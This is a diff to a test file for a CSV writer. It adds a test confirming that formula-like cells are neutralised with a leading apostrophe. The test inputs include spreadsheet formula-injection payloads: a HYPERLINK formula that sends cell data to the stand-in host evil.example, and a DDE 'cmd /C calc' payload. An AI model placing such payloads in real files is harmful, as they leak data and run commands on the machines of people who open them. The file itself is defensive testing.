@@ -32,6 +32,13 @@ describe('CSV writer', () => {
   it('quotes fields with commas, quotes and line breaks, and ends every row with CRLF', () => {
     expect(text(writeCsv([['a', 'b,c', 'say "hi"', 'two\nlines']]))).toBe('\xef\xbb\xbfa,"b,c","say ""hi""","two\nlines"\r\n');
   });
+
+  it('keeps a cell a spreadsheet would run as a formula (a node named =HYPERLINK(…)) as text, and numbers as numbers', () => {
+    const cells = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '-12.5', '+3', 'Mara'];
+    expect(text(writeCsv([cells]))).toBe(
+      '\xef\xbb\xbf"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",\'+1+cmd|\' /C calc\'!A0,\'-2+3,\'@SUM(A1:A9),\'\t=1,"\'\r=1",-12.5,+3,Mara\r\n',
+    );
+  });
 });
 
 describe('ZIP writer', () => {
